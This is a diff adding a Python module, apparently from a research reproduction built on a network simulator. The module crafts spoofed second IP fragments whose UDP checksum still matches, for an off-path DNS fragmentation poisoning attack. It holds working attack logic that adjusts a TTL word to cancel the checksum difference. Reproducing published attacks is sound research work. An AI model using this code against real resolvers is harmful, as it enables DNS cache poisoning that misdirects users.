@@ -1,0 +1,95 @@
+"""UDP checksum fixing for replaced second fragments (paper section III-3).
+
+The UDP checksum of the whole datagram travels in the first fragment, which
+the off-path attacker does not touch.  The receiver verifies the checksum
+over the *reassembled* datagram, so a spoofed second fragment passes exactly
+when its ones'-complement sum equals the sum of the fragment it replaces::
+
+    sum1(f2') == sum1(f2)
+
+With knowledge of the original second fragment ``f2`` (learnable by querying
+the nameserver directly, for responses with a predictable tail) the attacker
+computes the sum difference introduced by its modifications and cancels it by
+adjusting an "unimportant" 16-bit word — in this implementation the low half
+of a TTL field of a record the attacker itself placed in the fragment.
+"""
+
+from __future__ import annotations
+
+from repro.netsim.checksum import ones_complement_sum, sub_ones_complement
+
+
+def checksum_correction(original_fragment: bytes, modified_fragment: bytes) -> int:
+    """The 16-bit value that must be subtracted from the modified fragment.
+
+    Returns ``sum1(modified) - sum1(original)`` in ones'-complement
+    arithmetic; subtracting this from any 16-bit word of the modified
+    fragment makes the two sums equal.  Ones'-complement arithmetic has two
+    representations of zero (0x0000 and 0xFFFF); the result is normalised to
+    0x0000 so "no correction needed" is unambiguous.
+    """
+    correction = sub_ones_complement(
+        ones_complement_sum(modified_fragment), ones_complement_sum(original_fragment)
+    )
+    return 0 if correction == 0xFFFF else correction
+
+
+def apply_correction(fragment: bytes, offset: int, correction: int) -> bytes:
+    """Subtract ``correction`` from the 16-bit word at ``offset``.
+
+    ``offset`` must be even (16-bit aligned with respect to the datagram —
+    fragment payloads always start on an 8-byte boundary, so alignment within
+    the fragment equals alignment within the datagram) and inside the
+    fragment.
+    """
+    if offset % 2 != 0:
+        raise ValueError(f"correction offset must be 16-bit aligned, got {offset}")
+    if not 0 <= offset <= len(fragment) - 2:
+        raise ValueError(f"correction offset {offset} outside fragment")
+    current = (fragment[offset] << 8) | fragment[offset + 1]
+    adjusted = sub_ones_complement(current, correction)
+    patched = bytearray(fragment)
+    patched[offset] = adjusted >> 8
+    patched[offset + 1] = adjusted & 0xFF
+    return bytes(patched)
+
+
+def craft_matching_fragment(
+    original_fragment: bytes,
+    desired_fragment: bytes,
+    adjustable_offsets: list[int],
+) -> bytes:
+    """Return ``desired_fragment`` patched so its sum matches the original's.
+
+    ``adjustable_offsets`` lists byte offsets (within the fragment) of 16-bit
+    words whose value the attacker does not care about; the first usable one
+    absorbs the correction.  Raises ``ValueError`` when the two fragments
+    differ in length (fragment replacement must preserve the total datagram
+    length, otherwise the UDP length check in the first fragment fails) or
+    when no aligned adjustable word is available.
+    """
+    if len(original_fragment) != len(desired_fragment):
+        raise ValueError(
+            "replacement fragment must have the same length as the original "
+            f"({len(desired_fragment)} != {len(original_fragment)})"
+        )
+    correction = checksum_correction(original_fragment, desired_fragment)
+    if correction == 0:
+        return bytes(desired_fragment)
+    for offset in adjustable_offsets:
+        if offset % 2 == 0 and 0 <= offset <= len(desired_fragment) - 2:
+            return apply_correction(desired_fragment, offset, correction)
+    raise ValueError("no 16-bit aligned adjustable word available for checksum fixing")
+
+
+def sums_match(original_fragment: bytes, crafted_fragment: bytes) -> bool:
+    """Verification helper: True when the two fragments have equivalent sums.
+
+    Ones'-complement arithmetic has two representations of zero (0x0000 and
+    0xFFFF) that behave identically under further addition, so a crafted
+    fragment whose sum differs from the original's only by "negative zero"
+    still leaves the overall UDP checksum valid.
+    """
+    first = ones_complement_sum(original_fragment)
+    second = ones_complement_sum(crafted_fragment)
+    return first == second or {first, second} == {0x0000, 0xFFFF}
